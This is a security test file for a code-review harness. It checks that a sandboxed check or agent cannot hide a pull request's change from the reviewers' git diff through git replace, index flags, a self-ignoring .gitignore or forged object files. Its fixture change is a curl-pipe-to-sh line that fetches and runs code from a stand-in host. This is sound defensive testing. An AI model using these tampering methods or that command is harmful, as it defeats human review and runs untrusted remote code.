/**
 * The reviewers judge the diff from the base commit to the working tree, read by the harness's git
 * after the work's checks (and agent) ran — in a repository whose refs, index and objects the work may
 * write. An attack pass had a check hide the pull request's own change from that diff with
 * `git replace <base blob> <changed blob>`: git reads a replacement object in place of the base's, so
 * the base side already held the change and the diff came out empty, under uid and bwrap alike.
 * Every harness git now runs with `core.useReplaceRefs=false` (docs/security.md, "Git metadata").
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { collectReviewEvidence } from '../../src/core/verify/review-evidence.js';
import { mechanismAvailable, runInWork, workIsolation } from './isolation-kit.js';

const _PATH = process.env.PATH ?? '/usr/bin:/bin';
const dirs: string[] = [];
afterAll(() => {
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

/** A base commit and a pull request's commit on top that adds a line the reviewers must see. */
function pullRequest(): { work: string; base: string } {
  const work = mkdtempSync(join(tmpdir(), 'truss-evidence-tamper-'));
  dirs.push(work);
  const git = (...args: string[]) => execFileSync('git', args, { cwd: work, encoding: 'utf8' }).trim();
  git('init', '-q', '-b', 'main');
  writeFileSync(join(work, 'deploy.sh'), 'echo deploy\n');
  git('add', '.');
  git('-c', 'user.email=t@example.invalid', '-c', 'user.name=t', 'commit', '-qm', 'base');
  const base = git('rev-parse', 'HEAD');
  writeFileSync(join(work, 'deploy.sh'), 'echo deploy\ncurl -s https://example.invalid/x | sh\n');
  git('-c', 'user.email=t@example.invalid', '-c', 'user.name=t', 'commit', '-qam', 'pr');
  return { work, base };
}

describe("a check cannot hide the pull request's change from the reviewers' diff", () => {
  for (const level of ['uid', 'bwrap'] as const) {
    it(`${level}: git replace of the base's blob`, async () => {
      const unavailable = await mechanismAvailable(level);
      if (unavailable) {
        console.warn(`SKIPPED ${level} evidence tamper test: ${unavailable}`);
        return;
      }
      const { work, base } = pullRequest();
      const git = { repo: null, base_ref: 'main', base_sha: base, head_sha: null, dirty: false };
      const before = await collectReviewEvidence({ env: process.env, workdir: work, git, contextFiles: [] });
      expect(before.diff).toContain('+curl -s https://example.invalid/x | sh');
      const isolation = await workIsolation(level, work);
      const result = await runInWork(isolation, work, [
        '-c',
        `git replace $(git rev-parse ${base}:deploy.sh) $(git rev-parse HEAD:deploy.sh) && echo replaced`,
      ]);
      expect(result.stdout.bytes.toString(), result.stderr.bytes.toString()).toBe('replaced\n');
      const after = await collectReviewEvidence({ env: process.env, workdir: work, git, contextFiles: [] });
      expect(after.diff).toContain('+curl -s https://example.invalid/x | sh');
    }, 60_000);
  }

  // The index is the work's to write too, and git's diff of the base against the working tree reads
  // a tracked file through it: an entry marked assume-unchanged or skip-worktree (or carrying the
  // file's stat data) is taken as the file's content without reading the file, and a path dropped
  // from the index and ignored by a `.gitignore` that ignores itself is shown deleted.
  const indexAttacks: Record<string, string> = {
    'the base blob in the index, marked assume-unchanged':
      'git update-index --cacheinfo 100644,$BLOB,deploy.sh && git update-index --assume-unchanged deploy.sh',
    'the base blob in the index, marked skip-worktree':
      'git update-index --cacheinfo 100644,$BLOB,deploy.sh && git update-index --skip-worktree deploy.sh',
    'the file dropped from the index and ignored': `git rm -q --cached deploy.sh && printf 'deploy.sh\\n.gitignore\\n' > .gitignore`,
  };
  for (const level of ['uid', 'bwrap'] as const) {
    for (const [name, script] of Object.entries(indexAttacks)) {
      it(`${level}: ${name}`, async () => {
        const unavailable = await mechanismAvailable(level);
        if (unavailable) {
          console.warn(`SKIPPED ${level} evidence tamper test: ${unavailable}`);
          return;
        }
        const { work, base } = pullRequest();
        const head = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: work, encoding: 'utf8' }).trim();
        const git = { repo: null, base_ref: 'main', base_sha: base, head_sha: head, dirty: false };
        const isolation = await workIsolation(level, work);
        const result = await runInWork(isolation, work, [
          '-c',
          `BLOB=$(git rev-parse ${base}:deploy.sh) && ${script} && echo hidden`,
        ]);
        expect(result.stdout.bytes.toString(), result.stderr.bytes.toString()).toBe('hidden\n');
        const after = await collectReviewEvidence({ env: process.env, workdir: work, git, contextFiles: [] });
        expect(after.diff).toContain('+curl -s https://example.invalid/x | sh');
      }, 60_000);
    }
  }

  // The object store is the work's to write, and git reads an object without checking its hash.
  const objectAttacks: Record<string, string> = {
    "the base's loose blob overwritten with the changed content":
      'f=.git/objects/$(echo $BLOB | cut -c1-2)/$(echo $BLOB | cut -c3-); n=$(git rev-parse HEAD:deploy.sh); ' +
      'cp .git/objects/$(echo $n | cut -c1-2)/$(echo $n | cut -c3-) new && rm -f $f && mv new $f',
  };
  for (const level of ['uid', 'bwrap'] as const) {
    for (const [name, script] of Object.entries(objectAttacks)) {
      it(`${level}: ${name} — the diff is not shown as unchanged, and the evidence says why`, async () => {
        const unavailable = await mechanismAvailable(level);
        if (unavailable) {
          console.warn(`SKIPPED ${level} evidence tamper test: ${unavailable}`);
          return;
        }
        const { work, base } = pullRequest();
        const head = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: work, encoding: 'utf8' }).trim();
        const git = { repo: null, base_ref: 'main', base_sha: base, head_sha: head, dirty: false };
        const isolation = await workIsolation(level, work);
        const result = await runInWork(isolation, work, [
          '-c',
          `BLOB=$(git rev-parse ${base}:deploy.sh) && ${script} && git diff --stat ${base} && echo forged`,
        ]);
        // The forgery works for git itself: its own diff from the base shows nothing.
        expect(result.stdout.bytes.toString(), result.stderr.bytes.toString()).toBe('forged\n');
        const after = await collectReviewEvidence({ env: process.env, workdir: work, git, contextFiles: [] });
        expect(after.diff).toBe('');
        expect(after.notes.join('\n')).toMatch(
          /diff from the base could not be read \(git: the repository's objects do not match their names \(error: hash mismatch [0-9a-f]{40}\).*NOT shown/,
        );
      }, 60_000);
    }
  }

  it('a corrupted index is said in the evidence, not shown as a diff with nothing in it', async () => {
    const { work, base } = pullRequest();
    writeFileSync(join(work, '.git', 'index'), 'garbage');
    const git = { repo: null, base_ref: 'main', base_sha: base, head_sha: null, dirty: false };
    const evidence = await collectReviewEvidence({ env: process.env, workdir: work, git, contextFiles: [] });
    expect(evidence.diff).toBe('');
    expect(evidence.notes.join('\n')).toMatch(/diff from the base could not be read .*NOT shown/);
    expect(evidence.notes.join('\n')).toMatch(/untracked files could not be listed/);
  });
});
